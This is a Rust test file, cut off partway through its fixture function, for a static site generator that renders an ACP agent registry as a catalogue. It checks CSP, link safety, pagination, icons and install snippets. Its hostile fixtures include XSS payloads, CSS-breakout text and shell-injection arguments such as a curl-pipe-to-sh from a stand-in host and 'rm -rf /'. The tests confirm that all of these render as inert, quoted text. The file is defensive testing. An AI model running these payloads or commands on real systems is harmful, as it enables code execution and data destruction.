//! The catalogue site as files: determinism, hostile content, page invariants (CSP, no inline
//! script or style, safe links), listing without JavaScript, install snippets, the size
//! budget, and snapshots of a small fixture.
//!
//! The page invariants run over the bundled registry plus a hostile entry; the budget is 100 KB.
//! `bench/site.sh` with `examples/site_bench.rs` measures rendering (BENCHMARKS.md).

use crate::common as site_common;

use std::collections::{BTreeMap, BTreeSet};

use acp_registry::site::{self, SiteAgent, SiteError, SiteOptions, CSP, PAGE_SIZE};
use acp_registry::Code;
use serde_json::{json, Value};
use site_common::*;

pub(crate) fn html_files(files: &BTreeMap<String, Vec<u8>>) -> Vec<(String, String)> {
    files
        .iter()
        .filter(|(path, _)| path.ends_with(".html"))
        .map(|(path, bytes)| (path.clone(), String::from_utf8(bytes.clone()).unwrap()))
        .collect()
}

/// The invariants every page must keep, whatever the input.
pub(crate) fn assert_page_invariants(path: &str, html: &str) {
    let csp = format!(
        r#"<meta http-equiv="Content-Security-Policy" content="{}">"#,
        CSP.replace('\'', "&#39;")
    );
    assert_eq!(
        html.matches(&csp).count(),
        1,
        "{path}: CSP meta tag missing"
    );
    let head_end = html.find("</head>").unwrap();
    assert!(
        html.find(&csp).unwrap() < head_end,
        "{path}: CSP must be in <head>"
    );
    for needle in ["<style", "<iframe", "<object", "<embed", "<base", "<img"] {
        assert!(!html.contains(needle), "{path}: unexpected {needle}");
    }

    for (tag, attrs) in tags(html) {
        for (name, value) in &attrs {
            assert!(
                !name.starts_with("on"),
                "{path}: event handler {name} on <{tag}>"
            );
            assert_ne!(name, "style", "{path}: style attribute on <{tag}>");
            let lower = value.to_ascii_lowercase();
            for scheme in ["javascript:", "vbscript:", "data:"] {
                assert!(
                    !lower.trim_start().starts_with(scheme),
                    "{path}: {scheme} URL in <{tag} {name}>"
                );
            }
            if ["href", "src", "action", "formaction", "xlink:href"].contains(&name.as_str()) {
                let external = value.contains("//");
                let scheme = value.split(['/', '?', '#']).next().unwrap_or("");
                assert!(
                    !scheme.contains(':')
                        || value.starts_with("https://")
                        || value.starts_with("http://"),
                    "{path}: <{tag} {name}={value:?}> is not http(s) or relative"
                );
                if tag == "a" && external {
                    let rel = attrs
                        .iter()
                        .find(|(n, _)| n == "rel")
                        .map(|(_, v)| v.as_str());
                    assert_eq!(
                        rel,
                        Some("noopener noreferrer"),
                        "{path}: external link {value} without rel=noopener noreferrer"
                    );
                }
                if tag != "a" {
                    assert!(
                        !external,
                        "{path}: <{tag} {name}={value:?}> loads from another origin"
                    );
                }
            }
        }
        if tag == "script" {
            let src = attrs
                .iter()
                .find(|(n, _)| n == "src")
                .map(|(_, v)| v.clone());
            assert!(
                src.as_deref()
                    .is_some_and(|s| s.ends_with("assets/site.js")),
                "{path}: inline or foreign <script> {attrs:?}"
            );
        }
    }
    // Every script element is empty (the only one loads assets/site.js).
    assert_eq!(
        html.matches("<script").count(),
        html.matches("></script>").count(),
        "{path}: a <script> with content"
    );
}

#[test]
fn rendering_is_deterministic() {
    let agents = bundled_agents();
    let first = site::render(&agents, &[], &options()).unwrap();
    let second = site::render(&agents, &[], &options()).unwrap();
    assert_eq!(first, second);

    // Input order and key order do not matter.
    let mut shuffled: Vec<SiteAgent> = agents.iter().rev().cloned().collect();
    for agent in &mut shuffled {
        let reversed: serde_json::Map<String, Value> = agent
            .agent
            .iter()
            .rev()
            .map(|(k, v)| (k.clone(), v.clone()))
            .collect();
        agent.agent = reversed;
    }
    let third = site::render(&shuffled, &[], &options()).unwrap();
    assert_eq!(
        first.keys().collect::<Vec<_>>(),
        third.keys().collect::<Vec<_>>()
    );
    for (path, bytes) in &first {
        assert!(third[path] == *bytes, "{path} depends on input order");
    }
}

#[test]
fn every_page_keeps_the_security_invariants() {
    let mut agents = bundled_agents();
    agents.push(hostile_agent());
    let files = site::render(&agents, &[], &options()).unwrap();
    let pages = html_files(&files);
    assert!(pages.len() > agents.len());
    for (path, html) in &pages {
        assert_page_invariants(path, html);
    }
}

#[test]
fn hostile_content_renders_as_inert_text() {
    let agent = hostile_agent();
    let files = site::render(&[agent, simple_agent("plain", "Plain")], &[], &options()).unwrap();
    let page = text(&files, "agents/evil/index.html");
    let index = text(&files, "index.html");

    assert_hostile_markup_is_text(&page, &index);
    assert_hostile_readme_is_sanitised(&page);
    assert_hostile_snippets_are_quoted(&page);

    // The icon is re-serialised without script, handler or foreign reference.
    let masks = all_icon_masks(&files);
    let icon = masks.iter().find(|(_, m)| m.id == "evil").unwrap();
    assert_eq!(
        icon.1.svg,
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"16\" height=\"16\" viewBox=\"0 0 16 16\"><path d=\"M1 1h14\" stroke=\"currentColor\"/></svg>\n"
    );

    // The search index keeps the raw strings (it is data; the script only sets textContent).
    let index_json = search_index(&files);
    let evil = indexed_agent(&index_json, "evil");
    assert_eq!(evil["name"], "<script>alert('name')</script>Evil");
    assert_eq!(evil["href"], "agents/evil/index.html");
    assert_eq!(evil["icon"], "i-evil");
}

/// The search index's record of agent `id`.
fn indexed_agent<'i>(index: &'i Value, id: &str) -> &'i Value {
    index["agents"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["id"] == id)
        .unwrap()
}

/// The hostile entry's page and the index: no markup from its strings, which show escaped,
/// and no unsafe URL.
fn assert_hostile_markup_is_text(page: &str, index: &str) {
    for (html, forms) in [(page, 0), (index, 1)] {
        for (tag, attrs) in tags(html) {
            assert!(
                !["img", "svg", "iframe", "i", "b", "object", "embed", "style", "textarea"]
                    .contains(&tag.as_str()),
                "hostile markup became a <{tag}> element: {attrs:?}"
            );
        }
        // Only the index's own filter form.
        assert_eq!(html.matches("<form").count(), forms);
        assert!(!html.contains("<script>alert"));
    }
    // Payloads are there as visible text.
    assert!(page.contains("&lt;a href=javascript:alert(&#39;id&#39;)&gt;x&lt;/a&gt;"));

    // The name shows as text, escaped, in the title, heading and card.
    let escaped_name = "&lt;script&gt;alert(&#39;name&#39;)&lt;/script&gt;Evil";
    assert!(page.contains(&format!("<h1>{escaped_name}</h1>")), "{page}");
    assert!(page.contains(&format!("<title>{escaped_name} – ")));
    assert!(index.contains(&format!(">{escaped_name}</a></h2>")));
    assert!(page.contains(
        "&quot;&gt;&lt;img src=x onerror=alert(&#39;description&#39;)&gt; &lt;b&gt;bold&lt;/b&gt; &amp; more"
    ));
    assert!(page.contains(
        "<strong>Quarantined.</strong> &lt;script&gt;alert(&#39;quarantine&#39;)&lt;/script&gt;"
    ));

    // Bad URLs are dropped, not rendered as links or text links.
    assert!(
        !page.contains("<dt>Repository</dt>"),
        "javascript: repository kept"
    );
    assert!(
        !page.contains("<dt>Website</dt>"),
        "javascript: website kept"
    );
    assert!(
        !page.contains("<dt>Homepage</dt>"),
        "URL with credentials kept"
    );
    assert!(!page.contains("secret"), "credentials leaked");
    assert!(!page.contains("data:text"), "data: license URL kept");
    assert!(
        page.contains("No https download"),
        "javascript: archive not dropped"
    );
    // The https archive with a hostile query string is kept, percent-encoded.
    assert!(page.contains(
        r#"<a href="https://evil.example/download/v1.0.0/evil.tar.gz?x=%22%3E%3Cscript%3Ealert(%27query%27)%3C/script%3E" rel="noopener noreferrer">"#
    ), "{page}");
}

/// The hostile entry's README, as rendered on its page.
fn assert_hostile_readme_is_sanitised(page: &str) {
    // README: scripts, handlers, frames, forms, styles and non-http(s) links are gone;
    // good and relative links stay, with rel; images become links.
    let readme_start =
        page.find("<div class=\"readme\">").unwrap() + "<div class=\"readme\">".len();
    let readme =
        &page[readme_start..page[readme_start..].find("</section>").unwrap() + readme_start];
    for gone in [
        "readme script",
        "readme img",
        "readme svg",
        "onclick",
        "iframe",
        "display: none",
        "<form",
        "<input",
        "<button",
        "document.domain",
        "vbscript:",
        "class=",
        "id=",
    ] {
        assert!(!readme.contains(gone), "README kept {gone:?}:\n{readme}");
    }
    assert!(
        readme.contains(
            r#"<a href="https://example.com/docs" rel="noopener noreferrer">good link</a>"#
        ),
        "{readme}"
    );
    assert!(
        readme.contains(r#"<a href="docs/setup.md" rel="noopener noreferrer">relative</a>"#),
        "{readme}"
    );
    assert!(
        readme.contains(
            r#"<a href="https://evil.example/track.png" rel="noopener noreferrer">image</a>"#
        ),
        "{readme}"
    );
    // A link whose URL is dropped keeps its text only.
    assert!(readme.contains("markdown js link\n"), "{readme}");
    assert!(readme.contains("<h3>Evil </h3>"), "{readme}");
    assert!(readme.contains("<table>"), "{readme}");
}

/// The hostile entry's install snippets.
fn assert_hostile_snippets_are_quoted(page: &str) {
    // Snippets: JSON that parses back to exactly the manifest's strings, and shell words
    // quoted so nothing runs.
    let zed: Value = serde_json::from_str(&element_text(page, "stable-zed-1").unwrap()).unwrap();
    let server = &zed["agent_servers"]["<script>alert('name')</script>Evil"];
    assert_eq!(server["command"], "npx");
    assert_eq!(
        server["args"],
        json!([
            "-y",
            "evil@1.0.0\"; rm -rf / #",
            "--acp",
            "$(curl evil.example | sh)",
            "</script><script>alert('arg')</script>"
        ])
    );
    assert_eq!(
        server["env"],
        json!({"A\"B": "<script>", "EVIL": "'; rm -rf / #"})
    );
    let cli = element_text(page, "stable-cli-1").unwrap();
    assert_eq!(
        cli,
        r#"env 'A"B=<script>' 'EVIL='\''; rm -rf / #' npx -y 'evil@1.0.0"; rm -rf / #' --acp '$(curl evil.example | sh)' '</script><script>alert('\''arg'\'')</script>'"#
    );
}

#[test]
fn hostile_markdown_without_raw_html_is_clean() {
    // No raw HTML: the README takes the path without the HTML sanitiser.
    let mut agent = simple_agent("md", "Markdown");
    agent.readme = Some(
        "# `<script>alert(1)</script>`\n\n[js](javascript:alert(1)) [JS]( JaVaScRiPt:alert(1) ) \
         [data](data:text/html;base64,PHNjcmlwdD4=) [vb](vbscript:msgbox) <mail@example.com>\n\
         ![pixel](https://tracker.example/p.png \"t\\\" onerror=\\\"alert(1)\") [ok](https://ok.example/?a=\"><b>)\n\n\
         ```js\\\" onload=\\\"alert(1)\n<img src=x onerror=alert(1)>\n```\n\n\
         | a |\n|:-:|\n| &lt;img src=x onerror=alert(1)&gt; |\n"
            .to_string(),
    );
    let files = site::render(&[agent], &[], &options()).unwrap();
    let page = text(&files, "agents/md/index.html");
    assert_page_invariants("agents/md/index.html", &page);
    let start = page.find("<div class=\"readme\">").unwrap();
    let readme = &page[start..start + page[start..].find("</section>").unwrap()];
    assert!(
        readme.contains("<h3><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></h3>"),
        "{readme}"
    );
    assert!(
        readme.contains("<p>js JS data vb mail@example.com\n"),
        "{readme}"
    );
    assert!(readme.contains(r#"<a href="https://tracker.example/p.png" title="t&quot; onerror=&quot;alert(1)" rel="noopener noreferrer">pixel</a>"#), "{readme}");
    assert!(readme.contains(r#"<a href="https://ok.example/?a=&quot;&gt;&lt;b&gt;" rel="noopener noreferrer">ok</a>"#), "{readme}");
    assert!(
        readme.contains("<pre><code>&lt;img src=x onerror=alert(1)&gt;\n</code></pre>"),
        "{readme}"
    );
    assert!(
        readme.contains("<th>a</th>")
            && readme.contains("<td>&lt;img src=x onerror=alert(1)&gt;</td>"),
        "{readme}"
    );
}

#[test]
fn unsafe_ids_and_duplicates_are_refused() {
    for id in ["../evil", "Evil", "a b", "", "a/b", "1a", "a\"b"] {
        let mut agent = simple_agent("x", "X");
        agent.id = id.to_string();
        assert!(
            matches!(
                site::render(&[agent], &[], &options()),
                Err(SiteError::InvalidId(_))
            ),
            "{id:?} accepted"
        );
    }
    let duplicate = site::render(
        &[simple_agent("a", "A"), simple_agent("a", "B")],
        &[],
        &options(),
    );
    assert!(matches!(duplicate, Err(SiteError::DuplicateId(id)) if id == "a"));
}

#[test]
fn the_registry_json_link_is_absolute_or_absent() {
    let agents = [simple_agent("a", "A")];
    let link = |url: Option<&str>| {
        let files = site::render(
            &agents,
            &[],
            &SiteOptions {
                title: "T".into(),
                registry_json_url: url.map(str::to_string),
                lifecycle_json_url: None,
                ..SiteOptions::default()
            },
        )
        .unwrap();
        (
            text(&files, "index.html"),
            text(&files, "agents/a/index.html"),
        )
    };
    let (index, page) = link(Some("https://cdn.example/registry/v1/latest/registry.json"));
    for html in [index, page] {
        assert!(html.contains(r#"<a href="https://cdn.example/registry/v1/latest/registry.json" rel="noopener noreferrer">registry.json</a>"#));
    }
    // A relative link would leave the site folder, which GitHub Pages serves alone.
    for url in [None, Some("../registry.json"), Some("javascript:alert(1)")] {
        let (index, page) = link(url);
        assert!(!index.contains("registry.json</a>"), "{url:?}");
        assert!(!page.contains("registry.json</a>"), "{url:?}");
    }
}

#[test]
fn the_site_command_links_registry_json_under_the_base_url() {
    let out = tempfile::tempdir().unwrap();
    let site = out.path().join("site");
    let run = std::process::Command::new(env!("CARGO_BIN_EXE_acp-registry"))
        .args(["site", "--base-url", "https://pages.example/reg/"])
        .arg("--registry")
        .arg(repo().join("registry"))
        .arg("--out")
        .arg(&site)
        .output()
        .unwrap();
    assert!(
        run.status.success(),
        "{}",
        String::from_utf8_lossy(&run.stderr)
    );
    let link = r#"<a href="https://pages.example/reg/registry.json" rel="noopener noreferrer">registry.json</a>"#;
    for page in ["index.html", "agents/gemini/index.html"] {
        let html = std::fs::read_to_string(site.join(page)).unwrap();
        assert!(html.contains(link), "{page}: {html:.2000}");
    }
}

/// Where a relative link of the page at `page` leads, from the site root, or None when it
/// climbs above it.
pub(crate) fn resolve(page: &str, link: &str) -> Option<String> {
    let mut parts: Vec<&str> = page.split('/').collect();
    parts.pop();
    let path = link.split(['?', '#']).next().unwrap_or("");
    for segment in path.split('/') {
        match segment {
            ".." => {
                parts.pop()?;
            }
            "." | "" => {}
            other => parts.push(other),
        }
    }
    Some(parts.join("/"))
}

#[test]
fn every_relative_link_leads_to_a_file_of_the_site() {
    // Opened from disk or served alone (GitHub Pages), the site has only its own files: a
    // relative link that climbs out of it, or names a file it does not write, is broken.
    // README links are the agent's own (relative ones point into its repository) and are
    // left out.
    let mut agents = bundled_agents();
    agents.push(hostile_agent());
    agents.extend((0..PAGE_SIZE).map(|i| simple_agent(&format!("z-{i}"), &format!("Z {i}"))));
    let files = site::render(&agents, &[], &options()).unwrap();
    let mut checked = 0;
    for (page, html) in html_files(&files) {
        let ours = match html.find("<section id=\"readme\"") {
            Some(start) => format!(
                "{}{}",
                &html[..start],
                &html[html.find("</article>").unwrap()..]
            ),
            None => html,
        };
        for (tag, attrs) in tags(&ours) {
            for (name, value) in &attrs {
                let linked = ["href", "src", "data-index"].contains(&name.as_str());
                if !linked || value.contains(':') || value.starts_with('#') || value.is_empty() {
                    continue;
                }
                let target = resolve(&page, value);
                assert!(
                    target.as_ref().is_some_and(|t| files.contains_key(t)),
                    "{page}: <{tag} {name}={value:?}> leads to {target:?}, not a file of the site"
                );
                checked += 1;
            }
        }
    }
    assert!(checked > agents.len() * 5, "only {checked} links");
}

#[test]
fn the_search_index_is_a_script_whatever_the_strings_hold() {
    // Each of these would end a script, open a comment, or (before ES2019) end a line in a
    // string literal, if the index were written as it is.
    let mut agent = simple_agent("tricky", "</script><script>alert(1)</script>");
    agent.agent.insert(
        "description".into(),
        json!("<!-- x --> \u{2028} \u{2029} ]]> \\u003c \\"),
    );
    let files = site::render(&[agent, simple_agent("plain", "Plain")], &[], &options()).unwrap();
    let script = text(&files, "assets/search-index.js");
    for needle in ["<", ">", "\u{2028}", "\u{2029}"] {
        assert!(!script.contains(needle), "{needle:?} in {script:.400}");
    }
    let index = search_index(&files);
    let tricky = indexed_agent(&index, "tricky");
    assert_eq!(tricky["name"], "</script><script>alert(1)</script>");
    assert_eq!(
        tricky["description"],
        "<!-- x --> \u{2028} \u{2029} ]]> \\u003c \\"
    );
}

#[test]
fn every_agent_is_listed_and_linked_without_javascript() {
    let agents = bundled_agents();
    assert!(
        agents.len() >= 10,
        "the bundled registry has {} agents",
        agents.len()
    );
    let files = site::render(&agents, &[], &options()).unwrap();
    let index = text(&files, "index.html");
    // The filter form is hidden until the script has loaded the search index.
    assert!(index.contains(r#"<form id="filters" class="filters" role="search" aria-label="Search and filter agents" data-index="assets/search-index.js" data-icons="assets/icons/" hidden>"#));
    for agent in &agents {
        let href = format!(r#"<a href="agents/{}/index.html">"#, agent.id);
        assert_eq!(
            index.matches(&href).count(),
            1,
            "{} not linked once",
            agent.id
        );
        assert!(files.contains_key(&format!("agents/{}/index.html", agent.id)));
    }
    assert!(index.contains(&format!(
        r#"<p id="result-count" class="count" role="status">{} agents</p>"#,
        agents.len()
    )));
    // Sorted by name, case-insensitively.
    let names: Vec<String> =
        regex::Regex::new(r#"<h2 class="card-title"><a href="[^"]+">([^<]+)</a>"#)
            .unwrap()
            .captures_iter(&index)
            .map(|c| unescape(&c[1]))
            .collect();
    let mut sorted = names.clone();
    sorted.sort_by_key(|n| n.to_lowercase());
    assert_eq!(names, sorted);
}

#[test]
fn large_registries_get_static_pages_that_list_everyone() {
    let count = PAGE_SIZE * 2 + 5;
    let agents: Vec<SiteAgent> = (0..count)
        .map(|i| simple_agent(&format!("agent-{i:03}"), &format!("Agent {i:03}")))
        .collect();
    let files = site::render(&agents, &[], &options()).unwrap();
    let link = regex::Regex::new(
        r#"<h2 class="card-title"><a href="(?:\.\./\.\./)?agents/([a-z0-9-]+)/index.html">"#,
    )
    .unwrap();
    let mut listed = Vec::new();
    for path in ["index.html", "page/2/index.html", "page/3/index.html"] {
        let html = text(&files, path);
        let ids: Vec<String> = link
            .captures_iter(&html)
            .map(|c| c[1].to_string())
            .collect();
        assert!(
            !ids.is_empty() && ids.len() <= PAGE_SIZE,
            "{path}: {} cards",
            ids.len()
        );
        listed.extend(ids);
        assert!(
            html.contains(r#"<nav id="pager" class="pager" aria-label="Pages">"#),
            "{path}: no pager"
        );
        assert_page_invariants(path, &html);
    }
    assert!(!files.contains_key("page/4/index.html"));
    assert_eq!(listed.len(), count, "every agent listed exactly once");
    let unique: BTreeSet<&String> = listed.iter().collect();
    assert_eq!(unique.len(), count);
    let index = text(&files, "index.html");
    assert!(index.contains(r#"<a href="page/2/index.html" rel="next">Next</a>"#));
    assert!(index.contains(&format!("Showing 1–{PAGE_SIZE} of {count} agents")));
    let last = text(&files, "page/3/index.html");
    assert!(last.contains(r#"<a href="../../page/2/index.html" rel="prev">Previous</a>"#));
    assert!(last.contains(r#"<a href="../../agents/agent-096/index.html">"#));
    assert!(last.contains(r#"<link rel="stylesheet" href="../../assets/site.css">"#));
    // Only page 1 has the filter form; the script filters over the search index.
    assert!(!last.contains("id=\"filters\""));
    let index_json = search_index(&files);
    assert_eq!(index_json["agents"].as_array().unwrap().len(), count);
    assert_eq!(index_json["page_size"], PAGE_SIZE);
}

#[test]
fn each_page_loads_the_icons_of_its_own_cards_only() {
    let count = PAGE_SIZE * 2 + 5;
    let agents: Vec<SiteAgent> = (0..count)
        .map(|i| simple_agent(&format!("agent-{i:03}"), &format!("Agent {i:03}")))
        .collect();
    let files = site::render(&agents, &[], &options()).unwrap();
    let sheets: Vec<&String> = files
        .keys()
        .filter(|p| p.starts_with("assets/icons/"))
        .collect();
    assert_eq!(
        sheets,
        [
            "assets/icons/1.css",
            "assets/icons/2.css",
            "assets/icons/3.css"
        ]
    );
    // Listing page n and the agent pages of its cards link stylesheet n, which holds
    // exactly the icons of those cards, in listing order (the order the script pages by).
    let index = search_index(&files);
    let order: Vec<&str> = index["agents"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["id"].as_str().unwrap())
        .collect();
    for (n, ids) in order.chunks(PAGE_SIZE).enumerate() {
        let n = n + 1;
        let sheet = format!("assets/icons/{n}.css");
        let masked: Vec<String> = icon_masks(&text(&files, &sheet))
            .into_iter()
            .map(|m| m.id)
            .collect();
        assert_eq!(masked, ids, "{sheet}");
        let listing = if n == 1 {
            text(&files, "index.html")
        } else {
            text(&files, &format!("page/{n}/index.html"))
        };
        let root = if n == 1 { "" } else { "../../" };
        let link = format!(r#"<link rel="stylesheet" href="{root}assets/icons/{n}.css">"#);
        assert_eq!(
            listing.matches("assets/icons/").count(),
            1 + usize::from(n == 1)
        );
        assert!(listing.contains(&link), "page {n}");
        for id in ids {
            let page = text(&files, &format!("agents/{id}/index.html"));
            let link = format!(r#"<link rel="stylesheet" href="../../assets/icons/{n}.css">"#);
            assert!(page.contains(&link), "{id}");
            assert_eq!(page.matches("assets/icons/").count(), 1, "{id}");
        }
    }
    // An empty registry still gets its (empty) stylesheet, which its index links.
    let empty = site::render(&[], &[], &options()).unwrap();
    assert!(icon_masks(&text(&empty, "assets/icons/1.css")).is_empty());
    assert!(text(&empty, "index.html").contains(r#"href="assets/icons/1.css""#));
}

#[test]
fn install_snippets_follow_the_manifest() {
    let mut agents = bundled_agents();
    // npx with a preview channel: gemini, given a preview newer than its pin when the bundled
    // registry has none (its preview is dropped whenever the stable release overtakes it).
    if let Some(gemini) = agents.iter_mut().find(|a| a.id == "gemini") {
        if gemini.preview.is_none() {
            let mut preview = gemini.agent.clone();
            let package = "@google/gemini-cli@999.0.0-preview.1";
            preview.insert("version".into(), json!("999.0.0-preview.1"));
            preview.insert(
                "distribution".into(),
                json!({"npx": {"package": package, "args": ["--acp"]}}),
            );
            gemini.preview = Some(preview);
        }
    }
    let files = site::render(&agents, &[], &options()).unwrap();
    let by_id = |id: &str| agents.iter().find(|a| a.id == id);

    if let Some(gemini) = by_id("gemini") {
        assert_npx_snippets(gemini, &files);
    }
    assert_uvx_snippets(&agents, &files);
    assert_binary_snippets(&agents, &files);
}

/// npx snippets, stable and preview, on gemini's page.
fn assert_npx_snippets(gemini: &SiteAgent, files: &BTreeMap<String, Vec<u8>>) {
    let page = text(files, "agents/gemini/index.html");
    let name = gemini.agent["name"].as_str().unwrap();
    let npx = &gemini.agent["distribution"]["npx"];
    let mut args = vec![json!("-y"), npx["package"].clone()];
    args.extend(npx["args"].as_array().cloned().unwrap_or_default());
    let zed: Value = serde_json::from_str(&element_text(&page, "stable-zed-1").unwrap()).unwrap();
    assert_eq!(
        zed,
        json!({"agent_servers": {name: {"type": "custom", "command": "npx", "args": args, "env": {}}}})
    );
    let jetbrains: Value =
        serde_json::from_str(&element_text(&page, "stable-jetbrains-1").unwrap()).unwrap();
    assert_eq!(
        jetbrains,
        json!({"agent_servers": {name: {"command": "npx", "args": args, "env": {}}}})
    );
    assert_eq!(
        element_text(&page, "stable-cli-1").unwrap(),
        format!("npx -y {} --acp", npx["package"].as_str().unwrap())
    );
    let preview = gemini.preview.as_ref().expect("gemini has a preview");
    let preview_cli = element_text(&page, "preview-cli-1").unwrap();
    assert!(preview_cli.contains(preview["distribution"]["npx"]["package"].as_str().unwrap()));
    assert!(page.contains("<h2 id=\"install-preview-title\">Install the preview "));
}

/// The one agent server of a page's stable Zed snippet.
fn zed_server(page: &str) -> Value {
    let zed: Value = serde_json::from_str(&element_text(page, "stable-zed-1").unwrap()).unwrap();
    zed["agent_servers"]
        .as_object()
        .unwrap()
        .values()
        .next()
        .unwrap()
        .clone()
}

/// uvx snippets on the page of an agent published only through uvx.
fn assert_uvx_snippets(agents: &[SiteAgent], files: &BTreeMap<String, Vec<u8>>) {
    let uvx = agents
        .iter()
        .find(|a| {
            a.agent["distribution"].get("uvx").is_some()
                && a.agent["distribution"].get("npx").is_none()
        })
        .expect("a uvx agent");
    let page = text(files, &format!("agents/{}/index.html", uvx.id));
    let server = zed_server(&page);
    assert_eq!(server["command"], "uvx");
    assert_eq!(
        server["args"][0],
        uvx.agent["distribution"]["uvx"]["package"]
    );
    assert!(element_text(&page, "stable-cli-1")
        .unwrap()
        .starts_with("uvx "));
}

/// Download list and snippets on the page of an agent published only as binaries.
fn assert_binary_snippets(agents: &[SiteAgent], files: &BTreeMap<String, Vec<u8>>) {
    // Binary: per-platform downloads with checksums and a run command; editor snippets
    // point into the unpacked folder, grouped by how the platforms launch.
    let binary = agents
        .iter()
        .find(|a| {
            let d = &a.agent["distribution"];
            d.get("binary").is_some() && d.get("npx").is_none() && d.get("uvx").is_none()
        })
        .expect("a binary agent");
    let page = text(files, &format!("agents/{}/index.html", binary.id));
    let targets = binary.agent["distribution"]["binary"].as_object().unwrap();
    for (platform, target) in targets {
        let archive = target["archive"].as_str().unwrap();
        assert!(
            page.contains(&format!(
                r#"<a href="{archive}" rel="noopener noreferrer">"#
            )),
            "{platform}"
        );
        if let Some(sha) = target.get("sha256").and_then(Value::as_str) {
            assert!(page.contains(&format!(r#"<code class="hash">{sha}</code>"#)));
        }
    }
    let server = zed_server(&page);
    assert!(
        server["command"].as_str().unwrap().starts_with("/path/to/"),
        "{server}"
    );
    let cli = element_text(&page, "stable-cli-1").unwrap();
    assert!(cli.contains("curl -fL -o "), "{cli}");
    assert!(page.contains("<h2 id=\"downloads-title\">Downloads</h2>"));
}

#[test]
fn icons_are_inline_masks_painted_with_the_text_colour() {
    let agents = bundled_agents();
    let files = site::render(&agents, &[], &options()).unwrap();
    let masks: Vec<IconMask> = all_icon_masks(&files).into_iter().map(|(_, m)| m).collect();
    let mask = |id: &str, dark: bool| masks.iter().find(|m| m.id == id && m.dark == dark);
    let sanitised = |agent: &SiteAgent, name: &str| site::sanitise_icon(&agent.icons[name]);
    let mut variants = 0;
    for agent in &agents {
        if agent.icons.contains_key("icon-light.svg") {
            // Light by default, dark inside prefers-color-scheme: dark.
            assert_eq!(
                mask(&agent.id, false).map(|m| m.svg.clone()),
                sanitised(agent, "icon-light.svg")
            );
            assert_eq!(
                mask(&agent.id, true).map(|m| m.svg.clone()),
                sanitised(agent, "icon-dark.svg")
            );
            variants += 1;
        } else if agent.icons.contains_key("icon.svg") {
            assert_eq!(
                mask(&agent.id, false).map(|m| m.svg.clone()),
                sanitised(agent, "icon.svg")
            );
            assert!(mask(&agent.id, true).is_none());
        }
    }
    assert!(variants > 0, "the bundled registry has no theme variants");
    // No icon files: the masks are data: URIs, which a file:// page may use.
    assert!(!files
        .keys()
        .any(|k| k.starts_with("icons/") || k.ends_with(".svg") && k != "assets/favicon.svg"));
    let site_css = text(&files, "assets/site.css");
    assert!(site_css.contains("background-color: currentColor"));
    assert!(site_css.contains("-webkit-mask-image: var(--icon); mask-image: var(--icon);"));
    assert!(CSP.contains("img-src 'self' data:;"));
    // An agent without a (valid) icon gets the generic box.
    let mut bare = simple_agent("bare", "Bare");
    bare.icons.insert("icon.svg".into(), b"<html/>".to_vec());
    let files = site::render(&[bare], &[], &options()).unwrap();
    assert!(text(&files, "index.html").contains(r#"<span class="icon i-none" aria-hidden="true">"#));
    assert!(all_icon_masks(&files).is_empty());
}

#[test]
fn a_hostile_icon_stays_inside_its_mask() {
    // Text that would end the url(), the rule, the stylesheet or a <style> element if the
    // icon were written into the CSS as it is: base64 has none of these characters.
    let mut agent = simple_agent("breakout", "Breakout");
    agent.icons.insert(
        "icon.svg".into(),
        br#"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 16 16"><text x="0" y="12">")}&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;*/@import url(https://evil.example/x.css);\</text><path d="M0 0h16"/></svg>"#.to_vec(),
    );
    let files = site::render(&[agent], &[], &options()).unwrap();
    let css = text(&files, "assets/icons/1.css");
    let masks = icon_masks(&css);
    assert_eq!(masks.len(), 1, "{css}");
    assert!(
        masks[0]
            .svg
            .contains("<text x=\"0\" y=\"12\">&quot;)}&lt;/style&gt;"),
        "{}",
        masks[0].svg
    );
    assert!(!css.contains("evil") && !css.contains("@import"), "{css}");
}

#[test]
fn size_budget_for_the_bundled_registry() {
    let files = render_bundled();
    let size = |p: &str| files[p].len();
    let budget = size("index.html") + size("assets/site.css") + size("assets/site.js");
    println!(
        "index.html {} B + site.css {} B + site.js {} B = {budget} B; search-index.js {} B, icons/1.css {} B",
        size("index.html"),
        size("assets/site.css"),
        size("assets/site.js"),
        size("assets/search-index.js"),
        size("assets/icons/1.css"),
    );
    assert!(
        budget < 100 * 1024,
        "index HTML + CSS + JS is {budget} bytes (budget 100 KB)"
    );
    // Everything the index loads, icons included, stays within the budget too.
    let loaded = budget
        + size("assets/search-index.js")
        + size("assets/icons/1.css")
        + size("assets/favicon.svg");
    assert!(
        loaded < 100 * 1024,
        "the index loads {loaded} bytes (budget 100 KB)"
    );
}

/// A small fixed fixture: a binary agent with theme icons and a README, an npx agent with
/// a preview and auth methods, a quarantined uvx agent without icon.
fn fixture() -> Vec<SiteAgent> {
    let mut alpha = simple_agent("alpha", "Alpha Agent");
    alpha.agent = serde_json::from_value(json!({
        "id": "alpha",
        "name": "Alpha Agent",
        "version": "2.1.0",
        "description": "Edits code & runs tests.",
        "repository": "https://github.com/example/alpha",
        "website": "https://alpha.example",
        "authors": ["Example Inc."],
        "license": "MIT",
        "license_url": "https://github.com/example/alpha/blob/main/LICENSE",
        "icon": "https://cdn.example/alpha.svg",
        "capabilities": ["session/load", "terminal/create"],
        "auth": [{"type": "terminal", "id": "login", "name": "Log in", "args": ["login"]}],
        "tags": ["rust", "local"],
        "protocol_version": 1,
        "distribution": {"binary": {
            "linux-x86_64": {"archive": "https://example.com/v2.1.0/alpha-linux.tar.gz", "cmd": "./alpha", "args": ["acp"], "sha256": "aa".repeat(32)},
            "windows-x86_64": {"archive": "https://example.com/v2.1.0/alpha-windows.zip", "cmd": "./alpha.exe", "args": ["acp"], "env": {"ALPHA_MODE": "acp"}}
        }}
    }))
    .unwrap();
    alpha.icons = BTreeMap::from([
        ("icon.svg".to_string(), ICON.as_bytes().to_vec()),
        ("icon-light.svg".to_string(), ICON.as_bytes().to_vec()),
        (
            "icon-dark.svg".to_string(),
            ICON.replace("stroke-width=\"2\"", "stroke-width=\"1.5\"")
                .into_bytes(),
        ),
    ]);
    alpha.readme = Some("# Alpha\n\nUse **Alpha** from [the docs](https://alpha.example/docs).\n\n## Setup\n\n```sh\nalpha login\n```\n".into());

